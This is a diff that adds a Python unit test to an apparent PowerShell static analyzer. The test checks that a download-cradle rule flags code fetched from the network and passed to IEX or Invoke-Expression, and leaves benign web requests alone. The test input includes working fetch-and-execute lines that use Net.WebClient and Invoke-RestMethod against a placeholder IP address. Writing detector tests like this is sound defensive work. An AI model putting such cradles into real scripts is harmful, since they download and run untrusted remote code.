@@ -206,3 +206,23 @@ def test_a_default_value_continued_by_an_operator_is_no_missing_comma() -> None:
         $A, $B, $C, $D
     """)
     assert lines_of(result, "PSParseError") == [6, 8]
+
+
+def test_content_a_function_outputs_is_followed_to_its_callers_execution() -> None:
+    result = analyze("""
+        function Get-Payload { (New-Object Net.WebClient).DownloadString($u) }
+        function Get-Stage {
+            param($Uri)
+            try {
+                Invoke-RestMethod -Uri $Uri
+            } catch { $null }
+        }
+        function Save-Page { $p = Invoke-WebRequest -Uri 'https://e.example.com'; $p.Content | Out-File x.html }
+        function Get-Config { Invoke-RestMethod -Uri 'https://api.example.com/config' }
+        IEX (Get-Payload)
+        Get-Stage -Uri 'http://198.51.100.2/s' | Invoke-Expression
+        Save-Page
+        Invoke-Expression 'Get-Date'
+        (Get-Config).Name
+    """)
+    assert lines_of(result, "PSDownloadCradle") == [1, 5]
